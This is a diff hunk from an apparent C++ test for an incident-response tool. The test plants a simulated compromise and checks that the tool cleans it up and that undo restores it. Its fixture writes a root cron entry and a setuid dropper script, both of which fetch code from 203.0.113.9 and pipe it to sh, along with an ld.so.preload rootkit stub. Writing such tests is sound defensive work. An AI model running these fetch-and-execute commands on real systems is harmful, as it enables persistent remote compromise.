@@ -63,7 +63,7 @@ TEST(Respond, ApplyCleansTheLabAndUndoRestoresIt) {
   test::write_file(root / "var/spool/cron/crontabs/root",
                    "# m h dom mon dow command\n*/30 * * * * (curl -fsSL http://203.0.113.9/pm.sh||wget -q -O- http://203.0.113.9/pm.sh)|sh\n");
   test::write_file(root / "etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n");
-  test::write_file(root / "usr/local/lib/libprocesshider.so", std::string("\x7f" "ELF fake rootkit", 20));
+  test::write_file(root / "usr/local/lib/libprocesshider.so", std::string("\x7f" "ELF fake rootkit"));
   const fs::path dropped = root / "tmp/.x.sh";
   test::write_file(dropped, "#!/bin/sh\ncurl http://203.0.113.9/y|sh\n");
   ::chmod(dropped.c_str(), 04755);
